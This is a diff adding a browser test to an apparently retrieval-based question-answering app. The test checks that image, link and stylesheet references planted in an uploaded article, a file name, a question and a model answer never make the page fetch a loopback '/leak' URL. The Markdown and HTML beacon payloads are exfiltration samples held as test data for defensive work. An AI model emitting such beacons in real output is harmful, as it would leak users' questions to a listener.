@@ -377,6 +377,29 @@ def test_hostile_titles_and_file_names_are_text(page: Page):
     assert dialog.locator("img, iframe, script, a[href^=javascript]").count() == 0
 
 
+def test_a_listener_hears_nothing_of_what_articles_and_answers_would_have_the_page_fetch(
+    served: Served, page: Page, site: loopback.Site
+):
+    """Pictures and links in Markdown and HTML are how a poisoned article has a page tell what was asked."""
+    heard = len(site.asked)
+    bait = site.url("/leak?asked=guimauve", host="127.0.0.1")
+    said = f'![x]({bait}) <img src="{bait}"> [ici]({bait}) <link rel=stylesheet href="{bait}">'
+    words = f"La guimauve de Brumel ![t]({bait})\n\nLa guimauve de Brumel est bleue. {said}\n"
+    library(page)
+    upload(page, (f"guimauve ![n]({bait.replace('/', '_')}).txt", words.encode()))
+    over(page)
+    page.get_by_role("tab", name="Questions").click()
+    served.script.reply = lambda _: f"[1] La guimauve de Brumel est bleue. {said}\n"
+    page.fill("#question textarea", f"De quelle couleur est la guimauve de Brumel ? {said}")
+    page.keyboard.press("Enter")
+    expect(page.locator("#current .exchange.answered")).to_be_visible()
+    page.locator("#panel a.open-article").first.click()
+    expect(page.locator("#reader-dialog .text")).to_contain_text(f"![x]({bait})")
+    page.wait_for_timeout(500)  # for a request that should never come
+    assert page.locator('[src*="leak"], #current [href*="leak"], #reader-dialog [href*="leak"]').count() == 0
+    assert len(site.asked) == heard
+
+
 def test_the_library_and_the_status_in_english(page: Page):
     library(page)
     page.get_by_text("English").click()
